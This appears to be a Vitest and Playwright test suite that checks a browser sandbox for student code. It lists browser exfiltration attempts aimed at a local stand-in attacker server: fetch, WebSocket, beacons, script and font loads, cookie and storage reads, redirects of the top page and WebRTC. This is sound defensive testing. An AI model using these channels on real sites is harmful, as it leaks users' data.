/**
 * Code that has broken out of its Compartment, in the Worker where it ran and, worse than can
 * happen, on the thread of the frame itself. A server of the attacker's must not hear of it. Each
 * attack has a control: the same code on a page without the frame's policy reaches that server.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type Browser, chromium, type Frame, type Page } from "playwright";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { chromiumOptions } from "../../chromium.ts";
import type { SandboxWindow } from "../../sandbox/page.ts";
import { type SandboxPage, serveSandboxPage } from "../../sandbox/page-server.ts";
import { type Listener, listen } from "./listener.ts";

interface Attack {
  readonly name: string;
  /** The body of an async function of `url`, the attacker's server, and `stun`. */
  readonly code: string;
}

/** What a Worker could try. Each ends when its outcome is known. */
const FROM_WORKER: readonly Attack[] = [
  { name: "fetch", code: "await fetch(url)" },
  { name: "fetch without CORS", code: "await fetch(url, { mode: 'no-cors' })" },
  {
    name: "XMLHttpRequest",
    code: "const ask = new XMLHttpRequest(); ask.open('GET', url); await new Promise((end) => { ask.onloadend = end; ask.send(); })",
  },
  {
    name: "WebSocket",
    code: "await new Promise((end) => { const socket = new WebSocket(url.replace('http', 'ws')); socket.onopen = socket.onerror = end; })",
  },
  {
    name: "EventSource",
    code: "await new Promise((end) => { const source = new EventSource(url + 'event-source'); source.onmessage = source.onerror = () => { source.close(); end(); }; })",
  },
  { name: "importScripts", code: "importScripts(url + 'script')" },
  { name: "import() of an address", code: "await import(url + 'import')" },
  {
    name: "a nested Worker that fetches",
    code: "const text = 'fetch(' + JSON.stringify(url) + ').finally(() => postMessage(1)).catch(() => {})'; await new Promise((end, failed) => { const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = end; worker.onerror = failed; })",
  },
  {
    name: "a nested Worker from an address of its own",
    code: "await new Promise((end, failed) => { const worker = new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(url + 'worker') + '); postMessage(1)']))); worker.onmessage = end; worker.onerror = failed; })",
  },
];

/** What the thread of the frame could try. Each is told by the browser's console when it fails. */
const FROM_FRAME: readonly Attack[] = [
  { name: "an image", code: "new Image().src = url" },
  {
    name: "a style sheet",
    code: "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = url; document.head.append(link)",
  },
  {
    name: "a picture in a style",
    code: "const style = document.createElement('style'); style.textContent = 'html { background: url(' + url + ') }'; document.head.append(style)",
  },
  {
    name: "a script",
    code: "const script = document.createElement('script'); script.src = url + 'script'; document.head.append(script)",
  },
  {
    name: "a frame within the frame",
    code: "const frame = document.createElement('iframe'); frame.src = url; document.documentElement.append(frame)",
  },
  { name: "navigation of the frame", code: "location.href = url" },
  {
    name: "a font",
    code: "new FontFace('stolen', 'url(' + url + ')').load().catch(() => undefined)",
  },
  { name: "a beacon", code: "navigator.sendBeacon(url, 'secret')" },
  {
    name: "a form",
    code: "const form = document.createElement('form'); form.action = url; form.target = '_self'; document.documentElement.append(form); form.submit()",
  },
];

interface Evaluates {
  evaluate(expression: string): Promise<unknown>;
}

let listener: Listener;
let site: SandboxPage;
let bare: { url: string; close: () => void };
let browser: Browser;
let page: Page;

beforeAll(async () => {
  listener = await listen();
  site = await serveSandboxPage();
  bare = await serveBarePage();
  browser = await chromium.launch(chromiumOptions());
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  bare?.close();
  await listener?.close();
});

afterEach(() => listener.forget());

/** In the place of the site's Worker: no realm is hardened in it, and it says that it is ready. */
const BARE_WORKER = `addEventListener("message", ({ ports: [port] }) => {
  port?.postMessage(JSON.stringify({ type: "ready" }));
});`;

/** A page of the site whose sandbox has Workers, all defences inside of them switched off. */
async function openSandbox(): Promise<Frame> {
  page = await browser.newPage();
  await page.route("**/sandbox/worker.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: BARE_WORKER }),
  );
  await page.goto(site.url);
  await page.waitForSelector("html[data-ready]");
  await page.evaluate(() => (window as unknown as SandboxWindow).openSandbox().ready);
  const frame = page.frames().find((one) => one.url().endsWith("/sandbox/frame"));
  if (frame === undefined) throw new Error("the page has no frame");
  return frame;
}

/**
 * Runs an attack's code somewhere, as the debugger evaluates it: no policy and no hardened
 * constructor stands in its way. Answers the error that it ended with, or "ended".
 */
function run(where: Evaluates, { code }: Attack): Promise<unknown> {
  const values = `${JSON.stringify(listener.url)}, ${JSON.stringify(listener.stun)}`;
  return where.evaluate(
    `(async (url, stun) => { ${code} })(${values}).then(() => "ended", (error) => String(error))`,
  );
}

/** The same in a Worker that an ordinary page has made from a blob. */
function runInBareWorker({ code }: Attack): Promise<unknown> {
  const body = `(async (url) => { ${code} })("${listener.url}").catch(() => {}).finally(() => postMessage(1))`;
  return page.evaluate(
    (text) =>
      new Promise<void>((end) => {
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = () => end();
      }),
    body,
  );
}

describe.each(FROM_WORKER)("$name, from a Worker of the frame", (attack) => {
  test("reaches nobody", async () => {
    await openSandbox();
    const workers = page.workers();
    expect(workers.length).toBeGreaterThan(0);
    for (const worker of workers) await run(worker, attack);
    await page.close();
    expect(listener.seen).toEqual([]);
  });

  test("control: from a Worker of an ordinary page it arrives", async () => {
    page = await browser.newPage();
    await page.goto(bare.url);
    await runInBareWorker(attack);
    await page.close();
    expect(listener.seen.length).toBeGreaterThan(0);
  });
});

describe.each(FROM_FRAME)("$name, from the thread of the frame", (attack) => {
  test("reaches nobody", async () => {
    const frame = await openSandbox();
    const refused = page.waitForEvent("console", (message) =>
      /Content Security Policy|sandboxed|Refused|violates/i.test(message.text()),
    );
    await run(frame, attack).catch(() => "the frame is gone");
    await refused;
    await page.close();
    expect(listener.seen).toEqual([]);
  });

  test("control: from an ordinary page it arrives", async () => {
    page = await browser.newPage();
    await page.goto(bare.url);
    await run(page.mainFrame(), attack).catch(() => "the page has gone there");
    await expect.poll(() => listener.seen.length, { timeout: 10_000 }).toBeGreaterThan(0);
    await page.close();
  });
});

describe("the page around the frame", () => {
  test("cannot be led away, and opens nothing", async () => {
    const frame = await openSandbox();
    const opened: Page[] = [];
    page.context().on("page", (other) => opened.push(other));
    const refused = page.waitForEvent("console", (message) =>
      /navigate|sandbox/i.test(message.text()),
    );
    await run(frame, { name: "", code: "top.location.href = url" }).catch(() => undefined);
    await refused;
    expect(await run(frame, { name: "", code: "if (open(url) === null) throw 'blocked'" })).toBe(
      "blocked",
    );
    expect(page.url()).toBe(site.url);
    expect(opened).toEqual([]);
    await page.close();
    expect(listener.seen).toEqual([]);
  });

  test("control: an ordinary frame leads its page away", async () => {
    page = await browser.newPage();
    await page.goto(bare.url);
    await run(page.mainFrame(), { name: "", code: "open(url)" });
    await expect.poll(() => listener.seen.length, { timeout: 10_000 }).toBeGreaterThan(0);
    await page.close();
  });

  test("cannot be read, nor what it keeps", async () => {
    const frame = await openSandbox();
    for (const code of [
      "parent.document.title",
      "top.localStorage.length",
      "localStorage.length",
      "document.cookie",
      "await indexedDB.open('stolen').onsuccess; if (origin === 'null') throw 'opaque'",
    ]) {
      expect(await run(frame, { name: "", code }), code).toMatch(/SecurityError|opaque/);
    }
    await page.close();
  });
});

describe("WebRTC", () => {
  const code = `
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel("out");
    await peer.setLocalDescription(await peer.createOffer());
    globalThis.peer = peer`;

  test("is not there where student code runs", async () => {
    await openSandbox();
    for (const worker of page.workers()) {
      expect(await run(worker, { name: "", code })).toMatch(/ReferenceError/);
    }
    await page.close();
    expect(listener.seen).toEqual([]);
  });

  test("control: a page has it, and its packets arrive", async () => {
    page = await browser.newPage();
    await page.goto(bare.url);
    await run(page.mainFrame(), { name: "", code });
    await expect.poll(() => listener.seen, { timeout: 10_000 }).toContain("udp");
    await page.close();
  });
});

test("of all that was tried, the site itself was asked for nothing but its own files", () => {
  const own = ["/", "/favicon.ico", "/page.js", "/sandbox/frame", "/sandbox/worker.js"];
  expect(site.requests.filter((path) => !own.includes(path))).toEqual([]);
});

/** A page without any policy. */
async function serveBarePage(): Promise<{ url: string; close: () => void }> {
  const server = createServer((_request, response) => {
    response
      .writeHead(200, { "content-type": "text/html" })
      .end("<!doctype html><title>Bare</title>");
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
